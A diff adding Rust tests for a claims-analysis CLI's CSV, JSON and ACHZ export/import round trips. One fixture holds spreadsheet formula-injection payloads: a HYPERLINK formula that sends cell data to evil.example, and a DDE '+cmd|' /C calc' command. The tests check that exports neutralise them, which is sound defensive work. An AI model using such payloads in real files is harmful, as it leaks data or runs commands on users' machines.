@@ -642,6 +642,264 @@ fn without_into_the_current_folder_or_its_workspace() {
     assert!(!ws.join("scenarios/kzclaims.toml").exists());
 }
 
+/// The claims of `export --format json` that a CSV carries (retracted ones
+/// are not exported), as (id, the fields compared).
+fn carried_claims(dir: &Path) -> Vec<(String, serde_json::Value)> {
+    let out = kz(dir)
+        .args(["export", "--format", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    v["claims"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|c| c["status"] != "retracted")
+        .map(|c| {
+            let keep = [
+                "date",
+                "statement",
+                "sources",
+                "credibility",
+                "relevance",
+                "ratings",
+                "rationale",
+                "scenario_rationale",
+                "tags",
+                "group",
+            ];
+            let fields: serde_json::Map<_, _> = keep
+                .iter()
+                .map(|k| (k.to_string(), c[*k].clone()))
+                .collect();
+            (c["id"].as_str().unwrap().to_string(), fields.into())
+        })
+        .collect()
+}
+
+/// A claim with everything a spreadsheet or a naive split would damage:
+/// a formula, cells starting with `-`, `+` and `@`, tags holding `;`, `,`
+/// and a backslash, and a per-scenario rationale per scenario.
+const HOSTILE_CLAIM: &str = r#"
+[[claim]]
+id = "zz-hostile"
+date = 2022-01-06
+statement = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+sources = ["cornell-2022"]
+credibility = 3
+relevance = "high"
+tags = ["a;b", "c,d", 'back\slash', "+plus", "'=quoted"]
+group = "@group"
+
+[claim.ratings]
+spontaneous-protest = "C"
+elite-coup = "I"
+foreign-terrorists = "NA"
+staged-purge = "N"
+
+[claim.rationale]
+spontaneous-protest = "-fits: crowds, then looting"
+elite-coup = "+cmd|' /C calc'!A0"
+"#;
+
+#[test]
+fn csv_export_then_import_gives_the_same_claims() {
+    let tmp = tempfile::tempdir().unwrap();
+    let src = tmp.path().join("src");
+    std::fs::create_dir_all(&src).unwrap();
+    bundled_copy(&src);
+    std::fs::write(src.join("claims/zz-hostile.toml"), HOSTILE_CLAIM).unwrap();
+    check_passes(&src);
+    let csv = kz(&src)
+        .args(["export", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert_eq!(csv.status.code(), Some(0), "{}", stderr(&csv));
+    let text = String::from_utf8(csv.stdout.clone()).unwrap();
+    // No cell starts a formula: each such cell begins with an apostrophe.
+    let mut rdr = ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes());
+    let mut cells = 0;
+    for rec in rdr.records() {
+        for cell in rec.unwrap().iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {cell:?}"
+            );
+        }
+    }
+    assert!(cells > 1000);
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(
+        text.contains("rationale:elite-coup"),
+        "per-scenario columns"
+    );
+    let file = tmp.path().join("matrix.csv");
+    std::fs::write(&file, &csv.stdout).unwrap();
+    let ws = tmp.path().join("ws");
+    bundled_without_claims(&ws);
+    let out = import(&file, &ws, &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    check_passes(&ws);
+    let (before, after) = (carried_claims(&src), carried_claims(&ws));
+    assert_eq!(before.len(), after.len());
+    assert!(before.len() > 50);
+    for ((id_a, a), (id_b, b)) in before.iter().zip(&after) {
+        assert_eq!(id_a, id_b);
+        assert_eq!(a, b, "claim {id_a}");
+    }
+    let hostile = &after.iter().find(|(id, _)| id == "zz-hostile").unwrap().1;
+    assert_eq!(
+        hostile["tags"],
+        serde_json::json!(["a;b", "c,d", "back\\slash", "+plus", "'=quoted"])
+    );
+    assert_eq!(
+        hostile["scenario_rationale"]["elite-coup"],
+        "+cmd|' /C calc'!A0"
+    );
+}
+
+#[test]
+fn a_folder_with_claims_but_no_config_is_not_called_a_new_workspace() {
+    let tmp = tempfile::tempdir().unwrap();
+    let ws = tmp.path().join("ws");
+    std::fs::create_dir_all(ws.join("claims")).unwrap();
+    let loose = std::fs::read_to_string(repo_root().join("claims/2019-2021.toml")).unwrap();
+    std::fs::write(ws.join("claims/2019-2021.toml"), &loose).unwrap();
+    let out = import(&fixture("interop").join("parc.achz"), &ws, &[]);
+    assert_eq!(out.status.code(), Some(2), "{}", stderr(&out));
+    let err = stderr(&out);
+    assert!(
+        err.contains("has no kzclaims.toml but already holds 1 file"),
+        "{err}"
+    );
+    assert!(err.contains("claims/2019-2021.toml"), "{err}");
+    assert!(!stdout(&out).contains("new workspace"), "{}", stdout(&out));
+    assert!(!ws.join("kzclaims.toml").exists(), "nothing written");
+    assert_eq!(
+        std::fs::read_dir(ws.join("claims")).unwrap().count(),
+        1,
+        "nothing added"
+    );
+}
+
+#[test]
+fn exported_json_is_named_as_not_an_import_format() {
+    let tmp = tempfile::tempdir().unwrap();
+    let json = kz(&fixture("small"))
+        .args(["export", "--format", "json"])
+        .output()
+        .unwrap();
+    let file = tmp.path().join("m.json");
+    std::fs::write(&file, &json.stdout).unwrap();
+    let ws = tmp.path().join("ws");
+    let out = import(&file, &ws, &[]);
+    assert_eq!(out.status.code(), Some(1));
+    let err = stderr(&out);
+    assert!(
+        err.contains("is JSON, which is not an import format"),
+        "{err}"
+    );
+    assert!(err.contains("PARC ACH project (.achz"), "{err}");
+    assert!(err.contains("CSV matrix"), "{err}");
+    assert!(!err.contains("header row"), "{err}");
+    assert!(!ws.exists());
+}
+
+#[test]
+fn timeline_csv_cells_never_start_a_formula() {
+    let out = kz(&fixture("small"))
+        .args(["timeline", "--format", "csv"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let text = stdout(&out);
+    assert!(text.contains("'+old-transformers"), "{text}");
+    let mut rdr = ::csv::ReaderBuilder::new().from_reader(text.as_bytes());
+    for rec in rdr.records() {
+        // Numbers (a negative log term) are numbers to a spreadsheet too.
+        for cell in rec.unwrap().iter().filter(|c| c.parse::<f64>().is_err()) {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "{cell:?}"
+            );
+        }
+    }
+}
+
+/// Scenario ids in file order, and each carried claim's (rationale,
+/// per-scenario rationale by scenario position).
+/// A claim's id, claim-wide rationale and (scenario position, rationale).
+type Rationale = (String, serde_json::Value, Vec<(usize, String)>);
+
+fn rationale_by_position(dir: &Path) -> Vec<Rationale> {
+    let out = kz(dir)
+        .args(["export", "--format", "json"])
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let ids: Vec<&str> = v["scenarios"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|s| s["id"].as_str().unwrap())
+        .collect();
+    v["claims"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|c| c["status"] != "retracted")
+        .map(|c| {
+            let per = c["scenario_rationale"]
+                .as_object()
+                .unwrap()
+                .iter()
+                .map(|(k, t)| {
+                    let j = ids.iter().position(|i| i == k).unwrap();
+                    (j, t.as_str().unwrap().to_string())
+                })
+                .collect::<std::collections::BTreeMap<_, _>>()
+                .into_iter()
+                .collect();
+            (
+                c["id"].as_str().unwrap().to_string(),
+                c["rationale"].clone(),
+                per,
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn achz_export_then_import_keeps_rationale_per_scenario() {
+    let tmp = tempfile::tempdir().unwrap();
+    let file = tmp.path().join("bundled.achz");
+    let out = kz(&repo_root())
+        .args(["export", "--format", "achz", "-o"])
+        .arg(&file)
+        .output()
+        .unwrap();
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let ws = tmp.path().join("ws");
+    let out = import(&file, &ws, &[]);
+    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
+    let (before, after) = (
+        rationale_by_position(&repo_root()),
+        rationale_by_position(&ws),
+    );
+    assert_eq!(before.len(), after.len());
+    let mut per_scenario = 0;
+    for (a, b) in before.iter().zip(&after) {
+        assert_eq!(a, b, "claim {}", a.0);
+        per_scenario += a.2.len();
+    }
+    assert!(per_scenario > 100, "{per_scenario}");
+}
+
 /// The JSON export as of a date (tests/fixtures/published): claims in force
 /// by their effective date, `effective` where it is later than `date`, each
 /// source's `published`, and the scenarios worded as of the date.
